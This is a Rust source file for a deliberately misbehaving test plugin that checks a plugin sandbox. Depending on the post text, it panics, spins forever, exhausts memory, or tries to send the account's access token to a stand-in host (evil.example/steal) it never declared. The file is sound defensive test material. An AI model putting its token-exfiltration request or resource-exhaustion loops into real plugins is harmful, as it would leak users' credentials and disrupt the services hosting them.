//! A plugin that misbehaves on request, to prove the sandbox holds. The post
//! text picks the misbehaviour: `trap`, `loop`, `oom`, `exfiltrate`,
//! `echo`, `get:/path`, `extra:/path`, `empty-id`; anything else behaves.

use outreach_sdk::prelude::*;

/// The URL of a second endpoint, `extra`, padded with spaces: tests patch
/// these bytes in the built file to make "an update of this plugin that
/// declares a new host" without building it again.
const EXTRA_SLOT: &str = "https://extra-slot.hostile.invalid                              ";

struct Hostile;

impl Platform for Hostile {
    fn manifest() -> Manifest {
        let bad = cfg!(feature = "bad-manifest");
        Manifest {
            id: if bad {
                "hostile-bad".into()
            } else {
                "hostile".into()
            },
            name: "Hostile".into(),
            version: "0.0.1".into(),
            auth: AuthInfo::static_credential(AuthKind::ApiKey, CredentialPlacement::Bearer),
            endpoints: vec![
                Endpoint {
                    name: "api".into(),
                    url: "https://hostile.example".into(),
                },
                Endpoint {
                    name: "extra".into(),
                    // Read at run time so the patched bytes count.
                    url: std::hint::black_box(EXTRA_SLOT).trim().into(),
                },
            ],
            hosts: if bad {
                vec!["not a host!".into()]
            } else {
                vec!["hostile.example".into()]
            },
            rate_limits: if bad {
                vec![RateLimit {
                    class: "publish".into(),
                    requests: 0,
                    window_seconds: 60,
                    scope: LimitScope::App,
                }]
            } else {
                vec![]
            },
            rate_limit_headers: None,
            content: ContentRules {
                max_length: 1000,
                // A media rule that allows nothing.
                media: if bad {
                    vec![MediaRule {
                        kind: MediaKind::Video,
                        max_count: 0,
                        max_bytes: 1,
                        mime_types: vec![],
                        needs_public_url: false,
                    }]
                } else {
                    vec![]
                },
                ..Default::default()
            },
            settings: vec![],
            post_fields: vec![],
            idempotent_publish: false,
        }
    }

    fn validate(post: &Post, _account: Option<&Account>) -> Vec<Problem> {
        misbehave(&post.text);
        vec![]
    }

    fn publish(ctx: &Context, post: &Post) -> Result<Receipt, CallError> {
        misbehave(&post.text);
        match post.text.as_str() {
            // Try to send the account's token to a host it never declared.
            "exfiltrate" => {
                let r = Request::get("https://evil.example/steal?t={{access_token}}").send();
                Err(match r {
                    Ok(res) => CallError::Rejected(format!("evil.example answered {}", res.status)),
                    Err(e) => e,
                })
            }
            // Ask an allowed host that reflects the request; the reply must
            // come back with the token scrubbed.
            "echo" => {
                let res = Request::post(ctx.url("api", "/echo")?).authed().send()?;
                Ok(Receipt {
                    state: ReceiptState::Published,
                    id: res.text(),
                    url: None,
                })
            }
            // GET a path on the declared host and report what came back.
            t if t.starts_with("get:") => {
                let res = Request::get(ctx.url("api", &t[4..])?)
                    .authed()
                    .follow_redirects()
                    .send()?;
                Ok(Receipt {
                    state: ReceiptState::Published,
                    id: format!("{} {}", res.status, res.text()),
                    url: None,
                })
            }
            // The account's credential to the `extra` endpoint.
            t if t.starts_with("extra:") => {
                let res = Request::get(ctx.url("extra", &t[6..])?).authed().send()?;
                Ok(Receipt::published(
                    format!("{} {}", res.status, res.text()),
                    None,
                ))
            }
            // Accepted, and still processing for MS milliseconds.
            t if t.starts_with("slow:") => {
                let ms: u64 = t[5..].parse().unwrap_or(0);
                Ok(Receipt {
                    state: ReceiptState::Pending,
                    id: format!("slow-{}", now_millis() + ms),
                    url: None,
                })
            }
            // Accepted, still processing: settled by `check-receipt`.
            "pending" => Ok(Receipt {
                state: ReceiptState::Pending,
                id: "job-7".into(),
                url: None,
            }),
            // The last step is the user's: a page they open.
            // (No id: nothing to watch for.)
            "handed" => Ok(Receipt {
                state: ReceiptState::HandedToUser,
                id: String::new(),
                url: Some("https://example.org/finish/draft-9".into()),
            }),
            "empty-id" => Ok(Receipt {
                state: ReceiptState::Published,
                id: String::new(),
                url: Some("not a url".into()),
            }),
            _ => Ok(Receipt {
                state: ReceiptState::Published,
                id: "1".into(),
                url: None,
            }),
        }
    }

    /// A pending job is live the first time it is asked about; a slow one
    /// once its time has come.
    fn check_receipt(_ctx: &Context, receipt: &Receipt) -> Result<Receipt, CallError> {
        if let Some(at) = receipt
            .id
            .strip_prefix("slow-")
            .and_then(|a| a.parse::<u64>().ok())
            && now_millis() < at
        {
            return Ok(receipt.clone());
        }
        Ok(Receipt::published(
            format!("post-of-{}", receipt.id),
            Some(format!("https://example.org/p/{}", receipt.id)),
        ))
    }

    fn profile(_ctx: &Context) -> Result<Profile, CallError> {
        Ok(Profile {
            id: "h".into(),
            name: "Hostile".into(),
            handle: None,
            picture: None,
            url: None,
        })
    }
}

fn misbehave(text: &str) {
    match text {
        "trap" => panic!("hostile plugin panics on purpose"),
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "oom" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        _ => {}
    }
}

outreach_sdk::export_platform!(Hostile);
